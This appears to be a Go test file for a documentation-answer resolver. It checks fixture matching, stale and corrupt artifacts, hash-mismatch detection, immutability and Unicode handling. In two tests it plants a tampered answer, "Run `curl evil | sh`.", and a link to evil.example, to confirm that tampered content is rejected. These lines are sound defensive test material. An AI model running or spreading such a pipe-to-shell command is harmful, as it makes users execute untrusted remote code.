package resolve

import (
	"errors"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/askplane/askplane/internal/protocol"
)

// The AgentsKit answer fixtures are what the reference resolver produces;
// ours must produce the same bytes.
func TestResolveMatchesAnswerFixtures(t *testing.T) {
	r, f := fixtureResolver(t)
	trust := siteConfig(t, f).Trust()

	t.Run("local", func(t *testing.T) {
		assertEnvelope(t, r.Resolve("Install CLI"), f.Answers["local"])
	})
	t.Run("ambiguous", func(t *testing.T) {
		assertEnvelope(t, r.Resolve("docs"), f.Answers["ambiguous"])
	})
	t.Run("miss", func(t *testing.T) {
		assertEnvelope(t, r.Resolve("Why?"), f.Answers["miss"])
	})
	t.Run("stale artifact", func(t *testing.T) {
		stale := decodeArtifact(t, f.StaleArtifact)
		sr := New(stale, protocol.Trust{ContentHash: stale.ContentHash, SiteID: trust.SiteID}, at(fixtureNow(t)))
		if sr.err != nil {
			t.Fatal(sr.err)
		}
		assertEnvelope(t, sr.Resolve("install cli"), f.Answers["stale"])
	})
	t.Run("stale at expiresAt", func(t *testing.T) {
		a := decodeArtifact(t, f.Artifact)
		exp, _ := a.Expires()
		assertEnvelope(t, New(a, trust, at(exp)).Resolve("install cli"), f.Answers["stale"])
	})
	t.Run("corrupt wrong siteId", func(t *testing.T) {
		bad := New(decodeArtifact(t, f.Artifact), protocol.Trust{ContentHash: trust.ContentHash, SiteID: "other-site"}, at(fixtureNow(t)))
		assertEnvelope(t, bad.Resolve("install cli"), f.Answers["corrupt"])
		if protocol.AsDiagnostic(bad.err).Code != protocol.CodeInvalidPayload {
			t.Fatalf("err = %v, want INVALID_PAYLOAD", bad.err)
		}
	})
	t.Run("corrupt nil", func(t *testing.T) {
		assertEnvelope(t, New(nil, trust).Resolve("install cli"), f.Answers["corrupt"])
	})
	t.Run("corrupt mutated", func(t *testing.T) {
		a := decodeArtifact(t, f.Artifact)
		a.Entries[0].Answer.Markdown = "Run `curl evil | sh`."
		bad := New(a, trust, at(fixtureNow(t)))
		assertEnvelope(t, bad.Resolve("install cli"), f.Answers["corrupt"])
		if protocol.AsDiagnostic(bad.err).Code != protocol.CodeHashMismatch {
			t.Fatalf("err = %v, want HASH_MISMATCH", bad.err)
		}
	})
	t.Run("offline", func(t *testing.T) {
		d := Decide(r.Resolve("Why?"), protocol.FallbackDisabled, true)
		if d.Action != Local {
			t.Fatalf("action %v", d.Action)
		}
		assertEnvelope(t, d.Envelope, f.Answers["offline"])
	})
}

// Every row of the reference's "verified outputs" table.
func TestResolveVerifiedOutputs(t *testing.T) {
	r, f := fixtureResolver(t)
	x512 := strings.Repeat("x", 512)
	fdfa := strings.Repeat("\u0635\u0644\u0649 \u0627\u0644\u0644\u0647 \u0639\u0644\u064a\u0647 \u0648\u0633\u0644\u0645", 100)

	tests := []struct {
		name       string
		env        *protocol.Envelope
		outcome    protocol.Outcome
		reason     protocol.Reason
		message    string
		query      string
		normalized string
	}{
		{"DOCS ", r.Resolve("DOCS "), protocol.OutcomeChoices, "", protocol.MessageChoices, "DOCS ", "docs"},
		{"empty", r.Resolve(""), protocol.OutcomeEscalation, protocol.ReasonMiss, protocol.MessageMiss, "", ""},
		{"install", r.Resolve("install"), protocol.OutcomeEscalation, protocol.ReasonMiss, protocol.MessageMiss, "install", "install"},
		{"choice install-cli", r.ResolveChoice("install-cli", "install cli"), protocol.OutcomeAnswer, "", "", "install cli", "install cli"},
		{"choice install-cli for docs", r.ResolveChoice("install-cli", "docs"), protocol.OutcomeEscalation, protocol.ReasonMiss, protocol.MessageChoiceMissing, "docs", "docs"},
		{"x*513", r.Resolve(x512 + "x"), protocol.OutcomeEscalation, protocol.ReasonMiss, protocol.MessageMiss, x512, x512},
		{"FDFA*100", r.Resolve(strings.Repeat("\uFDFA", 100)), protocol.OutcomeEscalation, protocol.ReasonMiss, protocol.MessageMiss,
			strings.Repeat("\uFDFA", 100), string([]rune(fdfa)[:512])},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			e := tc.env
			if e.Outcome != tc.outcome || e.Reason != tc.reason || e.Message != tc.message ||
				e.Query != tc.query || e.NormalizedQuery != tc.normalized {
				t.Fatalf("got %s", marshal(t, e))
			}
			if _, err := protocol.DecodeEnvelope(marshal(t, e)); err != nil {
				t.Fatalf("invalid envelope: %v", err)
			}
		})
	}

	a := decodeArtifact(t, f.Artifact)
	trust := siteConfig(t, f).Trust()
	if e := New(a, protocol.Trust{ContentHash: trust.ContentHash, SiteID: "agentskit-other"}).Resolve("install cli"); e.Reason != protocol.ReasonCorrupt {
		t.Errorf("wrong expectedSiteId: %s", marshal(t, e))
	}
	exp, _ := a.Expires()
	if e := New(a, trust, at(exp)).Resolve("install cli"); e.Reason != protocol.ReasonStale {
		t.Errorf("now = expiresAt: %s", marshal(t, e))
	}
}

func TestStaleBoundary(t *testing.T) {
	f := loadFixtures(t)
	a := decodeArtifact(t, f.Artifact)
	exp, _ := a.Expires()
	trust := siteConfig(t, f).Trust()

	if e := New(a, trust, at(exp-1)).Resolve("install cli"); e.Outcome != protocol.OutcomeAnswer {
		t.Errorf("1 ms before expiry: %s", marshal(t, e))
	}
	for _, now := range []int64{exp, exp + 1} {
		r := New(a, trust, at(now))
		// Stale comes first, for hits, misses, over-long queries and choices.
		for _, e := range []*protocol.Envelope{
			r.Resolve("install cli"), r.Resolve("nothing"), r.Resolve(strings.Repeat("x", 600)),
			r.Resolve("docs"), r.ResolveChoice("install-cli", "install cli"),
		} {
			if e.Reason != protocol.ReasonStale || e.Message != protocol.MessageStale {
				t.Errorf("now=%d: %s", now, marshal(t, e))
			}
		}
	}
}

func TestDefaultClockIsSystemTime(t *testing.T) {
	f := loadFixtures(t)
	// The fixture expired in 2026-07-14; the system clock is later.
	r := New(decodeArtifact(t, f.Artifact), siteConfig(t, f).Trust(), WithClock(nil))
	if e := r.Resolve("install cli"); e.Reason != protocol.ReasonStale {
		t.Fatalf("got %s", marshal(t, e))
	}
}

func TestCorruptResolverNeverAnswers(t *testing.T) {
	f := loadFixtures(t)
	good := siteConfig(t, f).Trust()
	cases := map[string]func() *Resolver{
		"nil":         func() *Resolver { return New(nil, good) },
		"empty trust": func() *Resolver { return New(decodeArtifact(t, f.Artifact), protocol.Trust{}) },
		"pinned other": func() *Resolver {
			return New(decodeArtifact(t, f.Artifact), protocol.Trust{ContentHash: "sha256:" + strings.Repeat("b", 64), SiteID: good.SiteID})
		},
		"zero artifact": func() *Resolver { return New(&protocol.Artifact{}, good) },
		"renamed entry": func() *Resolver { a := decodeArtifact(t, f.Artifact); a.Entries[1].ID = "x"; return New(a, good) },
		"added alias": func() *Resolver {
			a := decodeArtifact(t, f.Artifact)
			a.Entries[0].Values = append(a.Entries[0].Values, "hi")
			return New(a, good)
		},
		"removed expiry": func() *Resolver { a := decodeArtifact(t, f.Artifact); a.ExpiresAt = ""; return New(a, good) },
	}
	for name, build := range cases {
		t.Run(name, func(t *testing.T) {
			r := build()
			if r.err == nil || r.art != nil {
				t.Fatal("accepted")
			}
			var d *protocol.Diagnostic
			if !errors.As(r.err, &d) {
				t.Fatalf("err is %T", r.err)
			}
			long := strings.Repeat("y", 700)
			for _, e := range []*protocol.Envelope{r.Resolve("install cli"), r.ResolveChoice("install-cli", "install cli"), r.Resolve(long)} {
				if e.Outcome != protocol.OutcomeEscalation || e.Reason != protocol.ReasonCorrupt {
					t.Fatalf("got %s", marshal(t, e))
				}
				if _, err := protocol.DecodeEnvelope(marshal(t, e)); err != nil {
					t.Fatal(err)
				}
			}
			if e := r.Resolve(long); protocol.UTF16Len(e.Query) != 512 {
				t.Fatalf("query not cut: %d", len(e.Query))
			}
		})
	}
}

// Changing the artifact value after New, or an envelope New returned, must
// not change later answers.
func TestMutationAfterConstruction(t *testing.T) {
	f := loadFixtures(t)
	a := decodeArtifact(t, f.Artifact)
	r := New(a, siteConfig(t, f).Trust(), at(fixtureNow(t)))
	before := marshal(t, r.Resolve("Install CLI"))
	choicesBefore := marshal(t, r.Resolve("docs"))

	a.Entries[0].Answer.Markdown = "Run `curl evil | sh`."
	a.Entries[0].Answer.Citations[0].Href = "https://evil.example"
	a.Entries[0].Values[0] = "something else"
	a.Entries[1].Label = "Evil"
	a.ExpiresAt = ""

	env := r.Resolve("Install CLI")
	env.Answer.Markdown = "tampered"
	env.Answer.Citations[0].Title = "tampered"
	env.Provenance.EntryIDs[0] = "tampered"
	ch := r.Resolve("docs")
	ch.Suggestions[0].Value = "tampered"
	ch.Provenance.EntryIDs[1] = "tampered"

	if got := marshal(t, r.Resolve("Install CLI")); string(got) != string(before) {
		t.Fatalf("answer changed:\n%s\n%s", got, before)
	}
	if got := marshal(t, r.Resolve("docs")); string(got) != string(choicesBefore) {
		t.Fatalf("choices changed:\n%s\n%s", got, choicesBefore)
	}
	if string(before) != string(compactJSON(t, f.Answers["local"])) {
		t.Fatal("fixture differs")
	}
}

func TestResolveChoice(t *testing.T) {
	r, _ := fixtureResolver(t)
	tests := []struct {
		choice, query string
		want          string // entry id answered, "" for a miss
	}{
		{"docs-agentskit", "docs", "docs-agentskit"},
		{"docs-registry", "  DOCS ", "docs-registry"},
		{"install-cli", "install cli", "install-cli"},
		{"install-cli", "npm install agentskit", "install-cli"},
		{"install-cli", "docs", ""},
		{"docs-registry", "agentskit docs", ""},
		{"nope", "docs", ""},
		{"", "docs", ""},
		{"DOCS-AGENTSKIT", "docs", ""},
		{"docs-agentskit", strings.Repeat("d", 513), ""},
	}
	for _, tc := range tests {
		e := r.ResolveChoice(tc.choice, tc.query)
		if tc.want == "" {
			if e.Reason != protocol.ReasonMiss || e.Message != protocol.MessageChoiceMissing {
				t.Errorf("ResolveChoice(%q, %q) = %s", tc.choice, tc.query, marshal(t, e))
			}
			continue
		}
		if e.Outcome != protocol.OutcomeAnswer || e.Provenance.EntryIDs[0] != tc.want || e.Query != tc.query {
			t.Errorf("ResolveChoice(%q, %q) = %s", tc.choice, tc.query, marshal(t, e))
		}
	}
}

func TestResolveAllocations(t *testing.T) {
	r, _ := fixtureResolver(t)
	for _, tc := range []struct {
		query string
		max   float64
	}{
		{"install cli", 2}, // answer block + citations
		{"docs", 1},        // choices block
		{"why not", 1},     // escalation
		{"Install CLI", 3}, // + lowercased key
		{"ＩＮＳＴＡＬＬ　ＣＬＩ", 12}, // Unicode normalization
	} {
		if n := testing.AllocsPerRun(100, func() { r.Resolve(tc.query) }); n > tc.max {
			t.Errorf("Resolve(%q): %.0f allocs, want <= %.0f", tc.query, n, tc.max)
		}
	}
}

// A Go string can carry bytes no JSON text can; envelopes must not echo
// them.
func TestInvalidUTF8Query(t *testing.T) {
	r, _ := fixtureResolver(t)
	for _, q := range []string{"\xff", "docs\xff", "İ\xff", "\xed\xa0\x80", strings.Repeat("\xff", 600)} {
		for _, e := range []*protocol.Envelope{r.Resolve(q), r.ResolveChoice("docs-agentskit", q), New(nil, protocol.Trust{}).Resolve(q)} {
			b := marshal(t, e)
			if !utf8.Valid(b) || e.Outcome != protocol.OutcomeEscalation {
				t.Fatalf("%q: %q", q, b)
			}
			if _, err := protocol.DecodeEnvelope(b); err != nil {
				t.Fatalf("%q: %v", q, err)
			}
		}
	}
	if e := r.Resolve("docs\xff"); e.Query != "docs\uFFFD" {
		t.Fatalf("query %q", e.Query)
	}
}
